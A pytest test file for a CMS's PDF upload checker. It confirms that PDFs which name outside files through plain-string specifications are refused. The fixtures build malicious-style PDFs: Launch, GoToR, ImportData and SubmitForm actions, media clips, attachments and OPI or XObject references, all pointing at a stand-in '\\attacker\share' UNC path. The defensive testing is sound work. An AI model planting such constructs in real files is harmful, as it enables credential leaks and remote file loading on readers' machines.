"""File specifications written as plain strings (ISO 32000-2, 7.11.2: ``/F (\\\\host\\share\\x)``) in uploaded PDFs
(cms/pdf_checks.py): a string has no /Type or file-system entry to tell it by, so it is refused by the
dictionary that holds it. One case for each kind of holder that names a file outside the PDF; the last six were
let through before."""

import io

import pytest

from cms.pdf_checks import UploadProblem, pdf_bytes_problem
from tests.pdfs import action_on_click, action_on_open, annotation, page_drawing, raw_pdf, reference_xobject
from tests.pdfs_more import UNC

P = UploadProblem
MEDIA_CLIP = b"<< /S /MR /C << /Type /MediaClip /S /MCD /D %b /CT (video/mp4) >> >>" % UNC


def _image_with_opi(version: bytes) -> bytes:
    """A page that draws an image (object 4) whose OPI dictionary names the file it is printed from, written with
    only the entries OPI requires (its /Type /OPI is optional)."""
    draw = b"q 9 0 0 9 0 0 cm /I Do Q"
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /I 4 0 R >> >>"
        b" /Contents 5 0 R >>",
        b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8"
        b" /OPI << %b >> /Length 1 >>\nstream\n\x80\nendstream" % version,
        b"<< /Length %d >>\nstream\n%b\nendstream" % (len(draw), draw),
    )


STRING_FILE_SPECS = {
    "gotor-action": (action_on_open(b"<< /S /GoToR /F %b /D [0 /Fit] >>" % UNC), P.LAUNCH),
    "gote-action": (action_on_click(b"<< /S /GoToE /F %b /T << /R /C /N (x) >> >>" % UNC), P.LAUNCH),
    "launch-action": (action_on_click(b"<< /S /Launch /F %b >>" % UNC), P.LAUNCH),
    "launch-windows-parameters": (action_on_click(b"<< /S /Launch /Win << /F %b /P (x) >> >>" % UNC), P.LAUNCH),
    "import-data-action": (action_on_click(b"<< /S /ImportData /F %b >>" % UNC), P.LAUNCH),
    "thread-action": (action_on_click(b"<< /S /Thread /F %b /D 0 >>" % UNC), P.LAUNCH),
    "submit-form-action": (action_on_click(b"<< /S /SubmitForm /F %b >>" % UNC), P.SUBMIT),
    "rendition-action-media-clip": (action_on_click(b"<< /S /Rendition /OP 0 /R %b >>" % MEDIA_CLIP), P.MEDIA),
    "screen-annotation-media-clip": (
        annotation(b"/Subtype /Screen /A << /S /Rendition /R %b >>" % MEDIA_CLIP),
        P.MEDIA,
    ),
    "movie-annotation": (annotation(b"/Subtype /Movie /Movie << /F %b >>" % UNC), P.MEDIA),
    "rich-media-asset": (
        annotation(b"/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a) %b] >> >>" % UNC),
        P.MEDIA,
    ),
    "file-attachment-annotation": (annotation(b"/Subtype /FileAttachment /FS %b" % UNC), P.EMBEDDED),
    "embedded-files-name-tree": (
        action_on_open(b"<< /S /GoTo /D [3 0 R /Fit] >> /Names << /EmbeddedFiles << /Names [(x) %b] >> >>" % UNC),
        P.EMBEDDED,
    ),
    "stream-data": (page_drawing(b"", b"/F %b" % UNC), P.DRAWN_FROM_ANOTHER_FILE),
    "reference-xobject": (reference_xobject(UNC), P.DRAWN_FROM_ANOTHER_FILE),
    "associated-files-array": (annotation(b"/Subtype /Text /AF [%b]" % UNC), P.OUTSIDE_FILE),
    "associated-file-alone": (annotation(b"/Subtype /Text /AF %b" % UNC), P.OUTSIDE_FILE),
    "opi-typed": (_image_with_opi(b"/2.0 << /Type /OPI /Version 2.0 /F %b >>" % UNC), P.OUTSIDE_FILE),
    # Let through before: their holder is no action, annotation or stream refused as such.
    "reference-xobject-subtype-as-string": (reference_xobject(UNC, subtype=b"(Form)"), P.DRAWN_FROM_ANOTHER_FILE),
    "opi-1.3-untyped": (
        _image_with_opi(b"/1.3 << /Version 1.3 /F %b /Size [1 1] /CropRect [0 0 1 1] >>" % UNC),
        P.OUTSIDE_FILE,
    ),
    "opi-2.0-untyped": (_image_with_opi(b"/2.0 << /Version 2.0 /F %b >>" % UNC), P.OUTSIDE_FILE),
    "output-intent-external-profile": (
        annotation(
            b"/Subtype /Text",
            b"/OutputIntents [<< /Type /OutputIntent /S /GTS_PDFX /OutputConditionIdentifier (x)"
            b" /DestOutputProfileRef << /ProfileName (x) /URLs [%b] >> >>]" % UNC,
        ),
        P.OUTSIDE_FILE,
    ),
    "structure-namespace-schema": (
        annotation(
            b"/Subtype /Text",
            b"/StructTreeRoot << /Type /StructTreeRoot /Namespaces"
            b" [<< /Type /Namespace /NS (https://example.org/ns) /Schema %b >>] >>" % UNC,
        ),
        P.OUTSIDE_FILE,
    ),
    "slide-show-resources": (
        annotation(
            b"/Subtype /Text",
            b"/Names << /AlternatePresentations << /Names [(s) << /Type /SlideShow"
            b" /Subtype /Embedded /Resources << /Names [(a.svg) %b] >> /StartResource (a.svg) >>] >> >>" % UNC,
        ),
        P.OUTSIDE_FILE,
    ),
}


@pytest.mark.parametrize(
    ("case", "data", "message"), [(c, *v) for c, v in STRING_FILE_SPECS.items()], ids=list(STRING_FILE_SPECS)
)
def test_a_file_specification_written_as_a_string_is_refused_wherever_it_is_held(case, data, message):
    assert pdf_bytes_problem(data) == message


def test_the_string_file_specification_files_carry_what_they_claim():
    from pypdf import PdfReader

    def read(case):
        return PdfReader(io.BytesIO(STRING_FILE_SPECS[case][0]))

    unc = "\\\\attacker\\share\\x.pdf"
    image = read("opi-1.3-untyped").pages[0]["/Resources"]["/XObject"]["/I"]
    assert (image["/Subtype"], image["/OPI"]["/1.3"]["/F"], "/Type" in image["/OPI"]["/1.3"]) == ("/Image", unc, False)
    form = read("reference-xobject-subtype-as-string").pages[0]["/Resources"]["/XObject"]["/X"]
    assert (type(form["/Subtype"]).__name__, form["/Subtype"], form["/Ref"]["/F"]) == ("TextStringObject", "Form", unc)
    intent = read("output-intent-external-profile").trailer["/Root"]["/OutputIntents"][0]
    assert intent["/DestOutputProfileRef"]["/URLs"] == [unc]
    namespace = read("structure-namespace-schema").trailer["/Root"]["/StructTreeRoot"]["/Namespaces"][0]
    assert namespace["/Schema"] == unc
    show = read("slide-show-resources").trailer["/Root"]["/Names"]["/AlternatePresentations"]["/Names"][1]
    assert show["/Resources"]["/Names"] == ["a.svg", unc]
